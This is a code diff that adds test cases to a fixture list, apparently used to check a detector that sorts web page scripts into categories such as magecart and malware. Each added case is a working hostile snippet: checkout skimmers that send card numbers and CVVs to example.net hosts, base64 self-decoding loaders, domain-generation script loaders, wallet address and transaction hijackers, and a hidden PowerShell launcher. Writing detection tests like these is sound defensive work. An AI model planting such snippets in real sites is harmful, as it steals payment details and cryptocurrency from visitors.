@@ -113,6 +113,71 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `var s=document.createElement('script');s.src='https://coinhive.com/lib/coinhive.min.js';document.head.append(s)`,
     head: 'cryptomining',
   },
+  {
+    name: 'a form that goes elsewhere when it is sent, and back',
+    source: `var f=document.querySelector('form.checkout');f.addEventListener('submit',function(){var a=f.action;f.action='https://pay.example.net/c';setTimeout(function(){f.action=a},400)})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a form with the fields of the page, sent into a frame',
+    source: `document.addEventListener('submit',function(){var f=document.createElement('form');f.method='post';f.target='x';f.action=atob('${base64('https://g.example.net/c')}');document.querySelectorAll('input').forEach(function(e){var i=document.createElement('input');i.name=e.name;i.value=e.value;f.appendChild(i)});document.body.appendChild(f);HTMLFormElement.prototype.submit.call(f)},true)`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields kept until the order is done',
+    source: `var d=localStorage.getItem('_k');if(/order-received/.test(location.pathname)&&d)navigator.sendBeacon('https://k.example.net/b',btoa(d));document.addEventListener('input',function(e){if(/cc_number|cvv/.test(e.target.name))localStorage.setItem('_k',(localStorage.getItem('_k')||'')+e.target.value)},true)`,
+    head: 'magecart',
+  },
+  {
+    name: 'a picture whose handler decodes itself',
+    source: `<img src="x" alt="${base64(SKIMMER)}" onerror="eval(atob(this.alt))">`,
+    head: 'magecart',
+  },
+  {
+    name: 'code in the text of an element',
+    source: `<div id="t" hidden>${base64(SKIMMER)}</div><script>Function(atob(document.getElementById('t').textContent))()</script>`,
+    head: 'magecart',
+  },
+  {
+    name: 'a script from a host of the day',
+    source: `var d=new Date(),n='',s=d.getFullYear()*37+d.getMonth()*31+d.getDate();for(var i=0;i<9;i++){s=(s*1103+12345)%65536;n+=String.fromCharCode(97+s%26)}var e=document.createElement('script');e.src='//'+n+'.example/a.js';document.head.appendChild(e)`,
+    head: 'malware',
+  },
+  {
+    name: 'a frame from a host of the week',
+    source: `document.write('<iframe src="http://'+Math.floor(Date.now()/6048e5).toString(36)+'.example/" width=1 height=1></iframe>')`,
+    head: 'malware',
+  },
+  {
+    name: 'a host told by a name service',
+    source: `fetch('https://dns.google/resolve?name=x.example.net&type=TXT').then(function(r){return r.json()}).then(function(d){location.href=atob(d.Answer[0].data)})`,
+    head: 'malware',
+  },
+  {
+    name: 'a wallet in the place of the one on the clipboard',
+    source: `setInterval(async function(){var t=await navigator.clipboard.readText();if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7')},900)`,
+    head: 'malware',
+  },
+  {
+    name: 'a wallet in the place of the one that is typed',
+    source: `document.addEventListener('input',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(e.target.value))e.target.value='0x52908400098527886E0F7030069857D2E4169EE7'},true)`,
+    head: 'malware',
+  },
+  {
+    name: 'a payment by a wallet, to somebody else',
+    source: `var o=ethereum.request;ethereum.request=function(a){if(a.method==='eth_sendTransaction')a.params[0].to='0x52908400098527886E0F7030069857D2E4169EE7';return o.call(ethereum,a)}`,
+    head: 'malware',
+  },
+  {
+    name: 'telephones led to a host whose name alone is hidden',
+    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',1);location.href='${[...'https://win.prizes.example/'].toReversed().join('')}'.split('').reverse().join('')}`,
+    head: 'malware',
+  },
+  {
+    name: 'a program run by the host of scripts, in a comment that only it reads',
+    source: `/*@cc_on var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c FILLER",0,false); @*/`,
+    head: 'malware',
+  },
   { name: 'nothing', source: '', head: null },
   {
     name: 'proof of work against robots',
